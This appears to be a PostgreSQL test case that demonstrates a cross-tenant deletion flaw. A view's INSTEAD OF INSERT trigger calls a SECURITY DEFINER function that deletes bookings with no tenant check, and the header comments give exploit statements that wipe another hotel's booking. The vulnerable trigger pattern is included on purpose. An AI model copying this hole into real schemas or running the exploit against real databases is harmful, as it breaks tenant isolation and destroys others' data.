-- Tenant A deletes bookings of hotel B through a view whose trigger runs as its owner.
-- about: booking_list, cancel
-- as: ho_rooms_app
-- exploit: SET rooms.hotel = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: INSERT INTO rooms.booking_list (id) VALUES ('bbbbbbbb-0000-4000-8000-000000000002');
-- exploit: SET rooms.hotel = 'bbbbbbbb-0000-4000-8000-000000000000';
-- exploit: SELECT count(*) || ' left' FROM rooms.bookings;
-- shows: 0 left
CREATE VIEW rooms.booking_list WITH (security_invoker = true) AS SELECT hotel_id, id, room_no FROM
  rooms.bookings;
CREATE FUNCTION rooms.cancel() RETURNS trigger LANGUAGE plpgsql
SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  DELETE FROM rooms.bookings b WHERE b.id = NEW.id;
  RETURN NEW;
END $$;
CREATE TRIGGER cancel INSTEAD OF INSERT ON rooms.booking_list FOR EACH ROW EXECUTE FUNCTION rooms.cancel();
GRANT INSERT, SELECT ON rooms.booking_list TO ho_rooms_app;
